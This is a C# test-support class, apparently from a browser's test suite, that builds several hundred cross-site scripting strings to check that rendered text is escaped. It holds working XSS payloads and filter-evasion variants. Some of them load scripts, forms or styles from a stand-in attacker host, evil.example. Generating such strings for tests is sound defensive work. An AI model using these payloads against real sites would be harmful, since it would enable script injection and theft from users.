namespace Updraft.Browser.Tests.Support;

/// <summary>Texts that run a script if a page renders them as markup. Each combines an escape from a context with a payload.</summary>
internal static class HostileText
{
    private static readonly string[] Escapes =
    [
        "", "\"", "'", "`", ">", "\">", "'>", "/>", "\"/>", "-->", "--!>", "]]>", "</textarea>", "</title>", "</option></select>", "</script>", "</style>",
        "</svg>", "</pre></details>", "</time>", "&#34;>", "\\\"",
    ];

    private static readonly (string Open, string Event)[] Elements =
    [
        ("img src=x", "onerror"), ("svg", "onload"), ("details open", "ontoggle"), ("input autofocus", "onfocus"), ("video src=x", "onerror"),
        ("iframe src=/", "onload"), ("body", "onpageshow"), ("marquee", "onstart"),
        ("a href=# autofocus tabindex=1", "onfocusin"), ("object data=x", "onerror"), ("select autofocus", "onfocus"), ("style", "onload"),
        ("link rel=stylesheet href=x", "onerror"), ("audio src=x", "onerror"),
    ];

    private static readonly string[] Separators = [" ", "/", "\t", "\n"];

    private static readonly string[] Calls =
        ["alert({0})", "alert`{0}`", "top[`al`+`ert`]({0})", "&#97;lert({0})", "(0,eval)(`alert({0})`)", "throw onerror=alert,{0}"];

    private static readonly string[] Whole =
    [
        "<script>alert({0})</script>", "<ScRiPt src=//evil.example/{0}></sCrIpT>", "<script\n>alert({0})</script\n>", "<scr<script>ipt>alert({0})</script>",
        "<iframe srcdoc='<script>parent.alert({0})</script>'>",
        "<a href=javascript:alert({0})>x</a>", "<a href='java&Tab;script:alert({0})'>x</a>", "<form action=//evil.example/{0}><button autofocus>x",
        "<button formaction=javascript:alert({0})>x", "<base href=//evil.example/{0}/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/{0}'>", "<style>@import '//evil.example/{0}'</style>",
        "<svg><animate onbegin=alert({0}) attributeName=x dur=1s>", "<svg><script>alert({0})</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert({0})>", "<embed src=data:text/html,<script>alert({0})</script>>",
        "<template><script>alert({0})</script></template>", "<x style=background:url(//evil.example/{0})>",
        "{{constructor.constructor('alert({0})')()}}", "${alert({0})}", "@(alert({0}))", "<%= alert({0}) %>", "\u202e<img src=x onerror=alert({0})>",
        "\uff1cscript\uff1ealert({0})\uff1c/script\uff1e", "<!--><img src=x onerror=alert({0})>-->",
        "&lt;script&gt;alert({0})&lt;/script&gt;", "%3Cscript%3Ealert({0})%3C/script%3E", "\\u003cscript\\u003ealert({0})\\u003c/script\\u003e",
    ];

    /// <summary>Several hundred texts, always the same, each with its number.</summary>
    public static IReadOnlyList<string> All()
    {
        List<string> texts = [.. Whole.Select((text, number) => text.Replace("{0}", $"{number}", StringComparison.Ordinal))];
        foreach (var (index, escape) in Escapes.Index())
        {
            foreach (var (position, (open, handler)) in Elements.Index())
            {
                var separator = Separators[(index + position) % Separators.Length];
                var call = Calls[((index * 5) + position) % Calls.Length].Replace("{0}", $"{texts.Count}", StringComparison.Ordinal);
                texts.Add($"{escape}<{open.Replace(" ", separator, StringComparison.Ordinal)}{separator}{handler}={call}>");
            }
            texts.Add($"{escape} onmouseover=alert({texts.Count}) autofocus onfocus=alert({texts.Count}) x=");
        }
        return texts;
    }
}
